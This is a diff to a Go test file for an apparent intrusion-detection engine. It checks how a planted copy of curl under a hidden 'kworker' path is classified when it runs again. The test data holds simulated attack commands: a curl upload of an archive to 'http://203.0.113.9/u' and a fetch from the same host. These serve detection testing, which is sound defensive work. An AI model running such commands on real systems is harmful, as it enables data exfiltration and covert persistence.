@@ -120,9 +120,10 @@ func TestAtFamily(t *testing.T) {
 }
 
 // TestPlantedProgramUsedAgain: a program the intrusion copied into place
-// fires as the plant on its first run by what hooked it; run again it is
-// the tool in use, named as the system program it copies and placed by
-// what it does.
+// fires as the plant on its first run by what hooked it; run again with
+// other arguments it is the tool in use, named as the system program it
+// copies and placed by what it does; with the same arguments, the hook
+// firing again.
 func TestPlantedProgramUsedAgain(t *testing.T) {
 	if got := copySource("/usr/bin/cp", []string{"cp", "/usr/bin/curl", "/usr/local/lib/.k/kworker"}); got != "/usr/bin/curl" {
 		t.Errorf("copySource = %q", got)
@@ -147,6 +148,13 @@ func TestPlantedProgramUsedAgain(t *testing.T) {
 	f2 := findingOf(e.Observe(s.exec(903, 901, 33, "www-data", "/var/www", tool, tool, "-s", "-F", "f=@/tmp/.d.tgz", "http://203.0.113.9/u"), s.tree), RulePlantedFileRun)
 	if f2 == nil || f2.Title != "Planted Program Used Again" || f2.Stage != StageExfiltrationImpact {
 		t.Fatalf("second run: %+v, want the tool in use, placed as the curl upload it is (stage 8)", f2)
+	}
+	// the hook calling it again as it was configured to (the same argv:
+	// sshd's keys command per key offered, cron's line every minute) is
+	// the plant firing again, not the tool in use
+	f3 := findingOf(e.Observe(s.exec(904, 901, 33, "www-data", "/var/www", tool, tool, "-s", "http://203.0.113.9/t"), s.tree), RulePlantedFileRun)
+	if f3 == nil || f3.Stage != StagePersistence || f3.Title != "Planted Persistence Fired" {
+		t.Errorf("third run, the first's argv again: %+v, want the plant firing again on stage 5", f3)
 	}
 	// a shell left under init whose loop runs the planted tool is the
 	// intrusion's: what it starts acts for it (an ssh with a found key)
